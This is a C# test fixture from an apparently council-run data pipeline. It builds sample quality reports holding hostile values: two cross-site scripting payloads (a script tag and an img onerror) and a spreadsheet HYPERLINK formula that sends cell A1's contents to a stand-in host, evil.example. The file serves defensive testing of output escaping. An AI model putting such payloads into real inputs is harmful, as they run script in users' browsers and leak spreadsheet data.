using Pmf.Pipeline.Feedback;
using Pmf.Pipeline.Quality;
using Pmf.Pipeline.Warehouse;

namespace Pmf.Pipeline.Tests.Reports;

/// <summary>Reports as a careless or hostile sender might cause them.</summary>
public static class ReportSamples
{
    public static SubmissionReport Report(params QualityIssue[] issues) => new()
    {
        SubmissionId = 42,
        FileName = "housing-q1.xlsx",
        ServiceCode = "HOU",
        ServiceName = "Housing",
        Sender = "officer@ashbyvale-brookmere.gov.uk",
        HeadOfServiceName = "Priya Shah",
        HeadOfServiceEmail = "priya.shah@ashbyvale-brookmere.gov.uk",
        ReceivedAt = new DateTimeOffset(2025, 7, 20, 8, 55, 0, TimeSpan.Zero),
        ProcessedAt = new DateTimeOffset(2025, 7, 20, 9, 0, 0, TimeSpan.Zero),
        Verdict = SubmissionVerdict.AcceptedWithWarnings,
        RowsRead = 12,
        RowsLoaded = 10,
        RowsRejected = 2,
        Warnings = 1,
        Errors = issues.Count(i => i.Severity == Severity.Error),
        Issues = issues,
    };

    public static readonly QualityIssue Script = new(
        "DQ004", Severity.Error, "Value <script>alert('x')</script> is not a number.", "Return", 8, "Value", "<script>alert(1)</script>", "ASH-HOU-01", "2025/26 Q1");

    public static readonly QualityIssue Image = new(
        "DQ010", Severity.Warning, "Commentary is missing.", "Return", 9, "Commentary", "<img src=x onerror=alert(1)>", "ASH-HOU-02", "2025/26 M03");

    public static readonly QualityIssue Formula = new(
        "DQ004", Severity.Error, "Value is not a number, enter digits only.", "Return", 10, "Value", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "ASH-HOU-04", "2025/26 Q1");
}
